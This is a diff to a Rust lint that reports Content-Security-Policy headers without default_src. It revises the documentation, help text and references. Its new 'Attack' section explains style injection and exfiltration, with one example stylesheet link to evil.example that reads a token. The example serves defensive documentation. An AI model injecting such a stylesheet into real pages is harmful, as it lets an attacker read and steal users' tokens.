@@ -6,14 +6,23 @@ use crate::policy::SecurityPolicy;
 lint! {
     /// # What it does
     ///
-    /// Looks for an enforced policy that restricts scripts and has no `default_src`. A policy that tells scripts apart
-    /// by nonce or hash stays quiet: it is whole with `script_src`, `object_src` and `base_uri`. Where scripts are not
-    /// restricted either, `csp_missing_script_src` speaks instead.
+    /// Looks for an enforced policy that restricts scripts and has no `default_src`. A policy that allows scripts by
+    /// nonce or hash is not reported, since `script_src`, `object_src` and `base_uri` are enough against cross-site
+    /// scripting. If scripts are not restricted either, `csp_missing_script_src` reports that instead.
     ///
     /// # Why it matters
     ///
     /// Each fetch directive that is absent falls back to `default_src`. Without it, styles, frames, connections and
-    /// plugins may come from everywhere, and so may whatever directive browsers learn next.
+    /// objects may come from anywhere, and so may whatever browsers add in the future.
+    ///
+    /// # Attack
+    ///
+    /// Without `style_src`, the attacker injects a stylesheet, which reads the page; without `connect_src`, a script
+    /// that was compromised sends what it has read:
+    ///
+    /// ```html
+    /// <link rel="stylesheet" href="https://evil.example/read-token.css">
+    /// ```
     ///
     /// # Example
     ///
@@ -21,16 +30,28 @@ lint! {
     /// content_security_policy: { script_src: self, object_src: none },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Start with `none` or `self`, and list what the pages need.
     ///
     /// ```text
     /// content_security_policy: { default_src: none, script_src: self, style_src: self, img_src: self },
     /// ```
     ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_missing_default_src, reason = "the policy restricts scripts only, the rest follows")]
+    /// content_security_policy: { … },
+    /// ```
+    ///
+    /// Reasonable while a policy is introduced step by step.
+    ///
     /// # References
     ///
-    /// - [CSP3, section 6.1.3](https://w3c.github.io/webappsec-csp/#directive-default-src)
-    Warn "what is not listed is not restricted" missing, check
+    /// - [CSP3, section 6.1.3, default-src](https://w3c.github.io/webappsec-csp/#directive-default-src)
+    /// - [CSP3, section 8.6, exfiltration](https://w3c.github.io/webappsec-csp/#exfiltration)
+    Warn "directives that are not listed restrict nothing" missing, check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
@@ -44,6 +65,6 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     report.push(
         Diagnostic::finding(header.span, "this policy has no `default_src`")
             .help("add `default_src: self`, or `default_src: none` and each directive that the pages need")
-            .note("what is not listed is not restricted: styles, frames, connections, plugins"),
+            .note("a directive that is not listed restricts nothing: styles, frames, connections and plugins may come from anywhere"),
     );
 }
